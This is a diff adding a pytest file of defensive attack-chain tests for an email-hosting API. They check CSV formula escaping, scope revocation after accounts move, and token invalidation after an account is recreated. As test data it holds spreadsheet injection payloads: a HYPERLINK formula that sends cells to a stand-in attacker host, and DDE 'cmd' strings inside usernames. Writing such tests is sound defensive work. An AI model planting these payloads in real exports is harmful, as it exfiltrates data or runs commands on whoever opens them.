@@ -1,0 +1,163 @@
+"""An attacker's chains through the HTTP API, second round (session 15).
+
+Like ``test_attack_chains.py``: one attacker holds ONE account of Acme and
+chains calls; a passing test is a defence that holds.  This round looks at
+what reaches *another person's* tools: the snapshot CSV a company admin or the
+provider's operator opens in a spreadsheet, and what a role holder's scope
+shows after an account moves out of it.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+from starlette.testclient import TestClient
+
+from conftest import PW, as_user, failed, ok
+from snapshots import download, link, rows
+from test_tokens import session, token_of
+
+ADMIN = as_user("admin@acme.com")
+DADMIN = as_user("dadmin@acme.net")  # domain admin of acme.net
+LEAD = as_user("lead@acme.com")  # workgroup admin of acme.com/sales
+T = "2026-01-14T10:00:00Z"  # the day of NOW
+
+
+def _login(user: str) -> dict[str, Any]:
+    return {"time": T, "kind": "login", "user": user, "service": "imap4"}
+
+
+# -- the snapshot CSV opened in a spreadsheet ----------------------------------------------
+#: names a domain admin may give (a valid address's local part may begin with
+#: ``=``, ``+`` or ``-``; a workgroup is any text without controls or ``/``)
+FORMULA_WORKGROUP = '=HYPERLINK("http:evil.example?"&A2&B2,"details")'
+FORMULA_USERS = ("=cmd|'-ccalc'!a0@acme.net", "+1+cmd|'x'!a0@acme.net", "-1+x@acme.net")
+FORMULA_START = tuple("=+-@\t\r")
+
+
+def _formula_cells(text: str) -> list[str]:
+    """Cells a spreadsheet would run: beginning like a formula, not a number."""
+    cells = (c for r in csv.reader(io.StringIO(text, newline="")) for c in r)
+    return [c for c in cells if c.startswith(FORMULA_START) and not c.lstrip("-").isdigit()]
+
+
+def test_names_a_domain_admin_chose_are_not_formulas_in_anothers_snapshot(
+    platform, call, client: TestClient
+):
+    """A domain admin names a workgroup and accounts like formulas; its company
+    admin and the provider's operator download snapshots of the company and of
+    the domain (``stats_snapshot``) and open them in a spreadsheet: no cell may
+    run (``=HYPERLINK(…&A2&B2)`` sends the neighbouring cells away when
+    clicked, ``=cmd|…`` is DDE).  Found in session 15: every such name was
+    written as it is."""
+    ok(call("create_workgroup", credentials=DADMIN, domain="acme.net", workgroup=FORMULA_WORKGROUP))
+    for user in FORMULA_USERS:
+        attrs = {"password": PW, "workgroup": FORMULA_WORKGROUP}
+        ok(call("change_user", credentials=DADMIN, user=user, attributes=attrs))
+    ok(call("ingest_events", batch_id="a", events=[_login(u) for u in FORMULA_USERS]))
+    for maker in (ADMIN, None):  # the company admin, the operator
+        for what in (
+            {"type": "company", "object": "Acme"},
+            {"type": "domain", "object": "acme.net"},
+        ):
+            for date in ("2026-01", "20260114"):
+                creds = {} if maker is None else {"credentials": maker}
+                answer = ok(call("stats_snapshot", date=date, **what, **creds))
+                text = download(client, answer["snapshot"])
+                assert _formula_cells(text) == [], (what, date)
+                got = {r["address"]: r for r in rows(text)}
+                # each name is all there, kept as text behind one quote
+                for user in FORMULA_USERS:
+                    assert got["'" + user]["workgroup"] == "'" + FORMULA_WORKGROUP
+                    assert got["'" + user]["domain"] == "acme.net"
+                    if date == "20260114":
+                        assert got["'" + user]["logins.imap4"] == "1"
+                assert got["carol@acme.net"]["workgroup"] == "staff"  # (others as they were)
+
+
+def test_a_negative_count_in_a_snapshot_stays_a_number(platform, call, client: TestClient):
+    """The ``unattributed`` row may hold negative counts (an account renamed
+    into the domain since): those are numbers, not formulas, and stay as they are."""
+    ok(call("ingest_events", batch_id="a", events=[_login("carol@acme.net")]))
+    ok(call("rename_user", credentials=ADMIN, user="carol@acme.net", new_name="carol@acme.com"))
+    text = download(client, link(call, ADMIN, type="domain", object="acme.com", date="20260114"))
+    rest = [r for r in rows(text) if r["account_type"] == "unattributed"]
+    assert [r["logins.imap4"] for r in rest] == ["-1"]
+    assert _formula_cells(text) == []
+
+
+# -- an account moved out of a role holder's scope -------------------------------------
+def test_a_domain_snapshot_does_not_follow_an_account_renamed_out_of_the_domain(
+    platform, call, client
+):
+    """carol (acme.net) is renamed into acme.com: the acme.net admin's snapshot
+    of today, when carol was counted in acme.net, shows neither her new name
+    nor a row of hers (her counts stay in the domain as ``unattributed``)."""
+    ok(call("ingest_events", batch_id="a", events=[_login("carol@acme.net")]))
+    ok(
+        call(
+            "rename_user",
+            credentials=ADMIN,
+            user="carol@acme.net",
+            new_name="secret-carol@acme.com",
+        )
+    )
+    text = download(client, link(call, DADMIN, type="domain", object="acme.net", date="20260114"))
+    assert "secret-carol" not in text
+    rest = [r for r in rows(text) if r["account_type"] == "unattributed"]
+    assert [(r["address"], r["logins.imap4"]) for r in rest] == [("", "1")]
+
+
+def test_a_workgroup_admin_loses_an_account_moved_to_another_workgroup_at_once(platform, call):
+    """lead (admin of acme.com/sales) has read alice's summary (cached) and her
+    account; alice moves to another workgroup: lead reads nothing of hers."""
+    ok(call("ingest_events", batch_id="a", events=[_login("alice@acme.com")]))
+    ok(call("stats_summary", credentials=LEAD, type="user", object="alice@acme.com"))
+    ok(call("get_user", credentials=LEAD, user="alice@acme.com"))
+    ok(call("create_workgroup", credentials=ADMIN, domain="acme.com", workgroup="other"))
+    ok(
+        call(
+            "change_user",
+            credentials=ADMIN,
+            user="alice@acme.com",
+            attributes={"workgroup": "other"},
+        )
+    )
+    failed(call("stats_summary", credentials=LEAD, type="user", object="alice@acme.com"), 2)
+    failed(call("get_user", credentials=LEAD, user="alice@acme.com"), 2)
+    failed(call("get_user_changes", credentials=LEAD, user="alice@acme.com"), 2)
+
+
+# -- tokens -----------------------------------------------------------------------------
+def test_delete_then_create_the_same_name_brings_no_token_back(platform, call):
+    """bob holds a session token, an admin-made ``oma`` token and an unspent
+    ``sso``; he is deleted and his name made again with a new password (which
+    reaches the deleted account, test_attack_chains): none of the old tokens,
+    nor the old password, works."""
+    bob = as_user("bob@acme.com")
+    tok = session(call, bob)
+    made = ok(call("generate_token", credentials=ADMIN, user="bob@acme.com", reason="r"))["token"]
+    sso = ok(
+        call(
+            "generate_token",
+            credentials=ADMIN,
+            user="bob@acme.com",
+            reason="r",
+            type="sso",
+            oma=True,
+        )
+    )["token"]
+    ok(call("delete_user", credentials=ADMIN, user="bob@acme.com"))
+    ok(
+        call(
+            "change_user",
+            credentials=ADMIN,
+            user="bob@acme.com",
+            attributes={"password": "new-bob-pw-1"},
+        )
+    )
+    for t in (tok["token"], made, sso):
+        failed(call("get_user", credentials=token_of("bob@acme.com", t), user="bob@acme.com"), 1)
+    failed(call("get_user", credentials=bob, user="bob@acme.com"), 1)
